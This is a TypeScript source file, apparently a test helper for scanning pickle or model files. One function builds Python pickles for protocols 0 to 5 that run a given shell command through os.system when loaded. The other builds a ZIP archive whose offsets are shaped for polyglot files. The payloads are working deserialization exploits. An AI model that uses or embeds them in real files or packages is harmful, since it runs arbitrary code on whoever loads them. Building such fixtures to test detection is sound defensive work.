import { Buffer } from 'node:buffer'

const u32 = (n: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(n)
  return bytes
}
const u64 = (n: number): Buffer => Buffer.concat([u32(n), u32(0)])
const join = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  )

/** Pickles of protocols 0 to 5 that run a shell command in whoever loads them (Python's pickletools reads them). */
export function pickles(command: string): readonly Buffer[] {
  const unicode = join('X', u32(command.length), command)
  const framed = join('\x8c\x02os\x8c\x06system\x93', unicode, '\x85R.')
  return [
    join(`cos\nsystem\n(S'${command}'\ntR.`),
    join('cos\nsystem\n(', unicode, 'tR.'),
    join('\x80\x02cos\nsystem\n', unicode, '\x85R.'),
    join('\x80\x03cos\nsystem\n', unicode, '\x85R.'),
    join('\x80\x04\x95', u64(framed.length), framed),
    join('\x80\x05\x95', u64(framed.length), framed),
  ]
}

/** A ZIP of one stored entry, whose offsets count from `at`: where in the polyglot the archive begins. */
export function zip(name: string, content: Uint8Array, at = 0): Buffer {
  const size = u32(content.length)
  const sizes = join(u32(0), size, size)
  const rest = join('\x14\0\0\0\0\0\0\0\0\0', sizes, Buffer.from([name.length, 0, 0, 0]))
  const local = join('PK\x03\x04', rest, name, Buffer.from(content))
  const central = join('PK\x01\x02\x14\0', rest, '\0\0\0\0\0\0\0\0\0\0', u32(at), name)
  const end = join(
    'PK\x05\x06\0\0\0\0\x01\0\x01\0',
    u32(central.length),
    u32(at + local.length),
    '\0\0',
  )
  return join(local, central, end)
}
